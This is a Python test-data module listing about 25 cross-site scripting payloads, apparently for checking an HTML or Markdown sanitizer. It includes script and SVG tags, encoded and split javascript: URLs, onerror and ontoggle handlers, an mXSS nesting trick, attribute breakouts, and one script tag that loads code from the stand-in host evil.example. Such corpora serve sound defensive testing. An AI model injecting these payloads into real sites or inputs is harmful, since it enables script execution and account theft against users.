"""XSS payloads: script tags, javascript: URLs (plain, entity-encoded, whitespace-split), SVG onload,
<img onerror>, HTML-entity tricks, attribute breakouts, mXSS, data: URLs. Each alerts a distinct word so a
browser dialog names the payload that ran."""

CORPUS = [
    "<script>alert('xss-script')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('xss-img')>",
    "<svg onload=alert('xss-svg')></svg>",
    "<svg><script>alert('xss-svg-script')</script></svg>",
    "[click me](javascript:alert('xss-md-link'))",
    "<a href=\"javascript:alert('xss-a')\">a</a>",
    "<a href=\"jav&#x09;ascript:alert('xss-tab-entity')\">entity tab</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss-decimal')\">decimal</a>",
    "[entity link](&#106;avascript:alert('xss-md-entity'))",
    "&lt;script&gt;alert('xss-escaped')&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert('xss-double')&amp;gt;",
    "<iframe src=\"javascript:alert('xss-iframe')\"></iframe>",
    "<body onload=alert('xss-body')>",
    "<details open ontoggle=alert('xss-toggle')>x</details>",
    "![pic](x\" onerror=\"alert('xss-md-img'))",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-mxss')>",
    "\"><script>alert('xss-attr-break')</script>",
    "'><img src=x onerror=alert('xss-single-break')>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data url</a>',
    "[vb](vbscript:msgbox('xss-vb'))",
    "<object data=\"javascript:alert('xss-object')\"></object>",
    "<form action=\"javascript:alert('xss-form')\"><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "`<script>alert('xss-in-code')</script>`",
]
COMBINED = "\n\n".join(CORPUS)
